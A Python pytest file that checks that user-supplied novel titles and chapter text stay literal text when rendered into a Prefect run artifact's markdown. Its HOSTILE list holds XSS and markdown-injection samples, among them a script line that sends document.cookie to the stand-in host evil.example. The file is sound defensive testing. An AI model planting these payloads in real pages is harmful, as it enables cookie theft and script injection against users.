"""The run artifact's markdown shows text from the log literally (titles are user input)."""

from __future__ import annotations

import re
import uuid

import pytest
from markdown_it import MarkdownIt

from prefect_bridge.chapter import chapter_summary
from prefect_bridge.markdown import escape_markdown
from schemas import ChapterEmbedded, ChunkVector, SourceRef

#: What a writer of novel-events could put in a title or a chapter's text.
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "[click me](javascript:alert(1))",
    "![pixel](https://evil.example/track.png)",
    "<https://evil.example/>",
    "**bold** _em_ `code` ~~gone~~",
    "a | b | c",
    "line one\n# heading\n| x | y |\r\n> quote",
    "&lt;b&gt; &#x3C;b&#x3E;",
    "\\*not emphasis\\*",
    "[ref]: https://evil.example/",
]


def one_line(text: str) -> str:
    """``text`` with each control character (line breaks) as a space."""
    return re.sub(r"[\x00-\x1f]", " ", text)


def render(markdown: str) -> str:
    """HTML as a CommonMark renderer with GFM tables (as the Prefect UI's) makes it."""
    html: str = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    return html


def text_of(html: str) -> str:
    """The visible text of rendered HTML (tags dropped, the entities scribe writes decoded)."""
    plain = re.sub(r"<[^>]+>", "", html)
    for entity, char in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&#39;", "'")):
        plain = plain.replace(entity, char)
    return plain.replace("&amp;", "&")


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_as_itself_and_nothing_more(text: str) -> None:
    html = render(escape_markdown(text))
    assert html.startswith("<p>") and html.count("<") == 2, html  # one paragraph, no markup
    assert text_of(html).strip() == one_line(text).strip()


def chapter(title: str, text: str) -> ChapterEmbedded:
    return ChapterEmbedded(
        event_id=uuid.uuid4(),
        novel_id="n_1",
        chapter_id="c-1",
        version=2,
        title=title,
        model="m",
        dimension=2,
        pipeline_version="pv",
        flow_run_id="run-1",
        source=SourceRef(topic="novel-events", partition=0, offset=3),
        chunks=(ChunkVector(chunk_no=0, text=text, vector=(1.0, 0.0)),),
    )


@pytest.mark.parametrize("title", HOSTILE)
def test_a_hostile_title_and_text_stay_text_in_the_run_artifact(title: str) -> None:
    html = render(chapter_summary(chapter(title, title), {"chunk": 0.01, "embed": 2.5}))
    for tag in ("<img", "<script", "<a ", "<em", "<strong><strong", "<code", "<del", "<h2"):
        assert tag not in html, (tag, html)
    assert html.count("<h1>") == 1 and html.count("<table>") == 1, html
    rows = re.findall(r"<tr>(.*?)</tr>", html, flags=re.S)
    assert all(row.count("<td>") == 2 for row in rows[1:]), rows  # no extra cells
    assert [re.search(r"<td>(.*?)</td>", r, re.S).group(1) for r in rows[1:]] == [  # type: ignore[union-attr]
        "chunks",
        "reused",
        "model",
        "pipeline",
        "source",
        "event",
        "chunk",
        "embed",
    ]
    assert one_line(title) in text_of(html)


def test_the_summary_still_reads_as_before() -> None:
    text = text_of(render(chapter_summary(chapter("第一回", "甲"), {"embed": 2.5})))
    for part in ("n_1 / c-1 @ v2", "第一回", "novel-events[0]@3", "m (2-d)", "2.50 s", "甲"):
        assert part in text, part
